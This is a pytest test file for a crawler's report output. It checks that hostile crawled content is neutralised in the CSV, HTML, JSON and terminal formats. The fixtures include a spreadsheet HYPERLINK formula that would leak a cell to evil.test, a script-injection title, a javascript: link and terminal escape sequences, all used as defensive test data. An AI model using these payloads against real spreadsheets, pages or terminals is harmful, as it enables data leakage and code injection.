"""Crawled content is untrusted: the malicious fixture sites (fixtures/malicious)
crawled through the real CLI give reports in which nothing runs.

- CSV: no cell from crawled data starts a spreadsheet formula (the payloads
  are there, behind a leading apostrophe);
- HTML: opened in headless Chromium, no payload runs (no `window.__pwned`,
  no injected element, no `javascript:` link), no CSP violation is even
  attempted, and the hostile titles are shown as text;
- JSON: the hostile strings are data, kept exactly as crawled;
- `javascript:`, `data:`, `vbscript:` and `mailto:` links are never requested.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ROOT, run_cli
from support.browser import CHROMIUM, Browser

from copyhound.sites import ServedSite, serve_sites

MALICIOUS = ROOT / "fixtures" / "malicious"
TITLE_A = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for the full report")'
TITLE_B_START = "<script>window.__pwned=1</script>"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, dict[str, ServedSite]]]:
    db = tmp_path_factory.mktemp("malicious") / "m.db"
    with serve_sites(MALICIOUS) as sites:
        blog, copycat = sites["blog"].base_url, sites["copycat"].base_url
        run_cli("crawl", blog + "/", "--db", str(db), "--scope", copycat, "--own-domain", blog, "--allow-private",
                "--delay", "0", "--timeout", "5", "--quiet", check=True)
        yield db, sites


def test_json_keeps_the_hostile_strings_as_data(crawled: tuple[Path, dict[str, ServedSite]]) -> None:
    db, _ = crawled
    data = json.loads(run_cli("report", "--db", str(db), "--format", "json", check=True).stdout)
    titles = {c["canonical"]["title"] for c in data["clusters"]}
    assert TITLE_A in titles
    assert any(t and t.startswith(TITLE_B_START) for t in titles), titles
    links = {cp["canonical_link"] for c in data["clusters"] for cp in c["copies"]}
    assert "javascript:window.__pwned=10" in links  # reported as declared: the audit needs it
    copies = {cp["url"] for c in data["clusters"] for cp in c["copies"]}
    assert any("evil%22'%3Cx%3E.html" in u for u in copies), copies


def test_csv_neutralises_every_formula_from_crawled_data(
        crawled: tuple[Path, dict[str, ServedSite]], tmp_path: Path) -> None:
    db, _ = crawled
    out = tmp_path / "r.csv"
    run_cli("report", "--db", str(db), "--format", "csv", "--output", str(out), check=True)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) >= 4
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    title = header.index("canonical_title")
    assert "'" + TITLE_A in {r[title] for r in body}  # the payload is there, as text


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium for the headless-browser test")
def test_html_report_of_the_malicious_sites_runs_nothing(
        crawled: tuple[Path, dict[str, ServedSite]], tmp_path: Path) -> None:
    db, _ = crawled
    page = tmp_path / "r.html"
    run_cli("report", "--db", str(db), "--format", "html", "--output", str(page), check=True)
    browser = Browser(tmp_path / "profile")
    try:
        browser.open(page.as_uri())
        browser.js("document.querySelectorAll('button.compare').forEach(b => b.click())")  # show crawled texts
        assert browser.js("document.querySelectorAll('tr.copy').length") >= 4
        assert browser.js("window.__pwned === undefined") is True
        injected = "img, svg:not(#charts svg), iframe, [onerror], [onload]"  # the report's chart SVGs are its own
        assert browser.js(f"document.querySelectorAll('{injected}').length") == 0
        assert browser.js("document.querySelectorAll('script').length") == 2  # the report's own two
        hrefs = browser.js("Array.from(document.querySelectorAll('a')).map(a => a.getAttribute('href'))")
        assert not [h for h in hrefs if h and not h.startswith(("http://", "https://", "#"))], hrefs
        shown = browser.js("Array.from(document.querySelectorAll('.cluster h2')).map(h => h.textContent)")
        assert any(s.startswith(TITLE_B_START) for s in shown), shown
        assert browser.problems() == []  # not even a blocked attempt: everything was escaped
    finally:
        browser.close()


def test_links_to_other_schemes_are_never_requested(crawled: tuple[Path, dict[str, ServedSite]]) -> None:
    _, sites = crawled
    paths = [p for s in sites.values() for _, p in s.requests]
    assert not [p for p in paths if "pwned" in p.lower() or ":" in p.split("?")[0]], paths
    assert any(p.startswith("/evil") for p in paths)  # the odd URL itself was crawled


@pytest.mark.parametrize("fmt", ["csv", "table"])
def test_no_crawled_control_character_reaches_the_terminal(crawled: tuple[Path, dict[str, ServedSite]],
                                                           fmt: str) -> None:
    """A title holding terminal escapes (set the window title, clear the
    screen, a C1 CSI) is printed with them replaced, in every text format."""
    db, _ = crawled
    out = run_cli("report", "--db", str(db), "--format", fmt, check=True).stdout
    assert "Cleared screen" in out
    assert not [c for c in out if (ord(c) < 32 and c not in "\t\r\n") or 0x7F <= ord(c) <= 0x9F], fmt


def test_json_escapes_control_characters(crawled: tuple[Path, dict[str, ServedSite]]) -> None:
    db, _ = crawled
    out = run_cli("report", "--db", str(db), "--format", "json", check=True).stdout
    assert "\x1b" not in out and "\\u001b]0;pwned" in out  # kept as data, escaped as JSON
